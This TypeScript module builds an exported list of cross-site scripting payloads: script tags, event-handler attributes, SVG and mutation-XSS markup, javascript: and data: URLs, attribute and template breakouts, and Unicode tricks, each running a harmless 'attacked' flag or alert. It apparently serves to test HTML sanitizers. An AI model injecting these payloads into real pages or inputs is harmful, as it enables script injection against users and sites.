/** Texts that run a script where they are taken for markup, an address or code: each sets `attacked` or calls `alert`. */

const RUN = ['attacked=1', 'alert(1)', 'window["attacked"]=1', 'self.attacked=`1`'];

/** What runs a script by itself, once it is in a page. */
const MARKUP: readonly ((code: string) => string)[] = [
	(code) => `<script>${code}</script>`,
	(code) => `<ScRiPt type=module>${code}</sCrIpT>`,
	(code) => `<script\t>${code}<\\/script>`,
	(code) => `<img src=x onerror="${code.replaceAll('"', '&quot;')}">`,
	(code) => `<img/src=x/onerror=${code.replaceAll('"', "'")}>`,
	(code) => `<svg onload='${code}'>`,
	(code) => `<svg><script>${code}</script></svg>`,
	(code) => `<svg><animate onbegin='${code}' attributeName=x dur=1s></svg>`,
	(code) =>
		`<math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror=${code}>">`,
	(code) => `<iframe srcdoc="<script>parent.${code.replaceAll('"', "'")}</script>"></iframe>`,
	(code) => `<iframe src='javascript:parent.${code}'></iframe>`,
	(code) => `<object data='javascript:${code}'></object>`,
	(code) => `<embed src='data:text/html,<script>${code}</script>'>`,
	(code) => `<details open ontoggle='${code}'>`,
	(code) => `<input autofocus onfocus='${code}'>`,
	(code) => `<video><source onerror='${code}'></video>`,
	(code) => `<body onpageshow='${code}'>`,
	(code) => `<template shadowrootmode=open><img src=x onerror='${code}'></template>`,
	(code) => `<a href='javascript:${code}' id=x>x</a>`,
	(code) => `<base href='https://example.com/'><script>${code}</script>`,
	(code) => `<meta http-equiv=refresh content='0;url=javascript:${code}'>`,
	(code) => `<style>@import 'javascript:${code}';</style>`
];

/** What ends a text, an attribute, a comment, a script or a sheet before the markup begins. */
const BEFORE = ['', '">', "'>", '--><!-->', '</script>', '</title></textarea></style>', ']]>'];

/** What runs where it is taken for an address, a handler or code. */
const OTHERS: readonly ((code: string) => string)[] = [
	(code) => `javascript:${code}`,
	(code) => `JaVa\tScRiPt:${code}`,
	(code) => `\u0001javascript:${code}`,
	(code) => `data:text/html,<script>${code}</script>`,
	(code) => `" onmouseover='${code}' x="`,
	(code) => `' autofocus onfocus='${code}`,
	(code) => `\${${code}}`,
	(code) => `{@html "<img src=x onerror=${code}>"}`,
	(code) => `{{constructor.constructor('${code}')()}}`,
	(code) => `\u2028${code}//`,
	(code) => `';${code}//`,
	(code) => `\u202E<script>${code}</script>`
];

export const PAYLOADS: readonly string[] = RUN.flatMap((code) => [
	...BEFORE.flatMap((before) => MARKUP.map((make) => before + make(code))),
	...OTHERS.map((make) => make(code))
]);
